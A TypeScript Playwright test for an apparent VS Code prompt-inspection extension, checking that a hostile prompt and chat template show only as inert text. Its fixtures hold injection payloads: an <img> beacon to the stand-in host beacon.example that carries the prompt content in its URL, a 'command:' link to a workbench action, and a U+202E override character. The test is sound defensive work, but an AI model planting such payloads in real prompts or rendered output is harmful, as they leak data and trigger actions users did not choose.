/** @file A hostile prompt and a hostile chat template in the window: their text is text in tooltip, hover, lens and message; nothing is fetched. */
import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Locator } from 'playwright-core';
import { suite, suiteSetup, suiteTeardown, test } from 'mocha';
import { packageRoot } from '../../support/vscodeHost/packageRoot';
import { WorkbenchWindow } from '../../support/vscodeHost/workbench';
import { eventually } from './overlayCheck';

const HOST = 'beacon.example';
const COMMAND = 'command:workbench.action.toggleSidebarVisibility';
const PROMPT = `Rose liked to go to the forest.\n\nSummarize the <img src=https://${HOST}/w.png> [a](${COMMAND}) story.\n`;
const REFUSED = `Refuse <img src=https://${HOST}/w.png>.\n`;
/** Says of such a prompt whatever it likes: here the prompt itself, in the address of an image, and a link to a command. */
const TEMPLATE = `{% if 'Refuse' in messages[0]['content'] %}{{ raise_exception(
  '<img src=https://${HOST}/' ~ messages[0]['content'] ~ '> [Repair it](${COMMAND}) https://${HOST}/plain \u202e') }}{% endif %}`;

suite('hostile text', () => {
  const demo = join(packageRoot, 'models', 'demo');
  const folder = mkdtempSync(join(tmpdir(), 'instruct-lens-hostile-'));
  const fetched: string[] = [];
  let window: WorkbenchWindow;

  suiteSetup(async () => {
    const tuned = join(folder, 'tuned');
    cpSync(join(demo, 'tuned'), tuned, { recursive: true });
    const template = join(tuned, 'chat_template.jinja');
    writeFileSync(template, TEMPLATE + readFileSync(template, 'utf8'));
    window = await WorkbenchWindow.open({
      settings: {
        'instructLens.pairs': [{ name: 'hostile', base: join(demo, 'base'), tuned }],
        'instructLens.pair': 'hostile',
      },
    });
    window.page.on('request', request => {
      if (request.url().includes(HOST)) fetched.push(request.url());
    });
    window.folder.writeFile('hostile.prompt.md', PROMPT);
    window.folder.writeFile('refused.prompt.md', REFUSED);
  });
  suiteTeardown(async () => {
    await window.close();
    rmSync(folder, { recursive: true, force: true });
  });

  /** Shown as text: no image, no link but those to our own commands, nothing that reorders. */
  async function isText(shown: Locator, said: RegExp): Promise<void> {
    await eventually(async () => assert.match((await shown.allInnerTexts()).join('\n'), said));
    assert.equal(await shown.locator('img').count(), 0);
    for (const link of await shown.locator('a').all()) {
      const target = (await link.getAttribute('data-href')) ?? (await link.getAttribute('href')) ?? '';
      assert.match(target, /^(command:instructLens\.|#?$)/);
    }
    assert.doesNotMatch((await shown.allInnerTexts()).join('\n'), /\u202e/);
    assert.deepEqual(fetched, []);
  }
  const hover = (): Locator => window.page.locator('.monaco-hover:not(.hidden)');

  test('the hover over a word shows the instruction as it is', async () => {
    await window.openFile('hostile.prompt.md');
    await window.explainByKey();
    await window.explained();
    await window.hoverOver('Summarize');
    await isText(hover(), new RegExp(`Summarize the <img src=https://${HOST}/w\\.png> `));
    await window.screenshot('hostile-hover');
  });

  test('the status bar’s tooltip shows what a chat template says, and so does the lens', async () => {
    await window.openFile('refused.prompt.md');
    await window.explainByKey();
    await window.lenses.filter({ hasText: 'try again' }).first().waitFor();
    await window.hoverOverStatus();
    await isText(hover(), new RegExp(`<img src=https://${HOST}/Refuse <img src=https://${HOST}/w\\.png>`));
    await isText(hover(), /\[Repair it\]\(command:/);
    await isText(hover(), /\\u202e/);
    await window.screenshot('hostile-status');
  });

  test('a message shows it without a link', async () => {
    await window.focusEditor();
    await window.page.keyboard.press('Control+Home');
    await window.command('Attention of Word at Cursor');
    await eventually(async () => assert.ok(await window.says('Repair it')));
    const message = window.page.locator('.notification-list-item-message', { hasText: 'Repair it' });
    await isText(message.first(), /\[Repair it\] \(command:workbench/);
    await window.screenshot('hostile-message');
  });
});
